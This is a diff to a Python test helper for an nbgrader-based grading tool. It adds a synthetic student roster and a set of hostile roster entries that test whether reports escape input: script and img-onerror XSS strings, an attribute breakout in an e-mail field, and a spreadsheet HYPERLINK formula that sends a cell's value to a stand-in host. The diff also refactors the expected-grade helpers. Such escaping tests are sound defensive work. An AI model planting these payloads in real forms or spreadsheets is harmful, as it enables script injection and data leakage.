@@ -71,6 +71,30 @@ def plans(n_students: int, labs: list[str], bugs: dict[str, list[str]], ids: lis
     return out
 
 
+FIRST = ("Ada", "Grace", "Alan", "Emmy", "Kurt", "Sofia", "Claude", "Hedy", "John", "Ida", "Rosalind", "Edsger")
+LAST = ("Lovelace", "Hopper", "Turing", "Noether", "Gödel", "Kovalevskaya", "Shannon", "Lamarr", "Neumann", "Rhodes",
+        "Franklin", "Dijkstra")
+# Roster entries an instructor may import from a spreadsheet or a hub: every page and file that shows them must
+# escape them (rlprep classroom report, the LMS exports). (index on the roster, field, value): index 3 hands lab 1 in
+# late, index 7 of a class of 7 (the first absent student) hands in nothing, so the report shows both names.
+HOSTILE = ((3, "last_name", '<img src=x onerror="window.__pwned=1">'),
+           (4, "first_name", '=HYPERLINK("http://evil.invalid/?"&A1,"grades")'),
+           (5, "email", '"><script>window.__pwned=1</script>@example.edu'),
+           (6, "last_name", "$\\frac{1}{0}$ <b>bold</b> & co"),
+           (7, "first_name", "<script>window.__pwned=1</script>"))
+
+
+def roster(ids: list[str]) -> list[dict]:
+    """A class list as an instructor imports it into nbgrader (``nbgrader db student import``): id, first and last
+    name, e-mail. A few entries hold markup, a spreadsheet formula and mathtext (:data:`HOSTILE`)."""
+    rows = [{"id": sid, "first_name": FIRST[i % len(FIRST)], "last_name": LAST[(i * 5) % len(LAST)],
+             "email": f"{sid}@example.edu"} for i, sid in enumerate(ids)]
+    for index, key, value in HOSTILE:
+        if index < len(rows):
+            rows[index][key] = value
+    return rows
+
+
 # -- the bug catalogue ------------------------------------------------------------------------------
 def load_catalog(lab: str, root: Path):
     """``tests/catalog/<lab>.py`` as a module (the catalogue the lab's tests use), or None when absent."""
@@ -195,6 +219,19 @@ def _drop_def_colon(source: str) -> str:
 # -- the expected grade -----------------------------------------------------------------------------
 def expected_grade(gradebook_nb, plan: Plan, root: Path) -> tuple[float, float, float]:
     """(raw score, score, max score) that ``plan``'s hand-in must get, from the tests run in this process."""
+    return grade_of(expected_tests(gradebook_nb, plan, root), plan)
+
+
+def grade_of(results: dict[str, tuple[float, float, str]], plan: Plan) -> tuple[float, float, float]:
+    """(raw score, score, max score) of :func:`expected_tests`'s results (a late hand-in scores 0)."""
+    raw = sum(points for points, _, _ in results.values())
+    total = sum(max_points for _, max_points, _ in results.values())
+    return raw, (0.0 if plan.late else raw), total
+
+
+def expected_tests(gradebook_nb, plan: Plan, root: Path) -> dict[str, tuple[float, float, str]]:
+    """{grade id: (points, max points, failure message)} that ``plan``'s hand-in must get, from the tests run in this
+    process (``score_in_process``; the message is ``"<error type>: <error>"``, '' for a pass)."""
     import importlib
 
     from rlprep.grading.executor import score_in_process
@@ -216,10 +253,7 @@ def expected_grade(gradebook_nb, plan: Plan, root: Path) -> tuple[float, float, 
         functions = {k: v for k, v in refs.items() if k not in _defined(answer_cells(gradebook_nb)[0])}
     else:  # untouched, sabotage
         functions = {name: unanswered for name in names}
-    results = score_in_process(gradebook_nb, functions)
-    raw = sum(points for points, _, _ in results.values())
-    total = sum(max_points for _, max_points, _ in results.values())
-    return raw, (0.0 if plan.late else raw), total
+    return score_in_process(gradebook_nb, functions)
 
 
 def _defined(cell) -> list[str]:
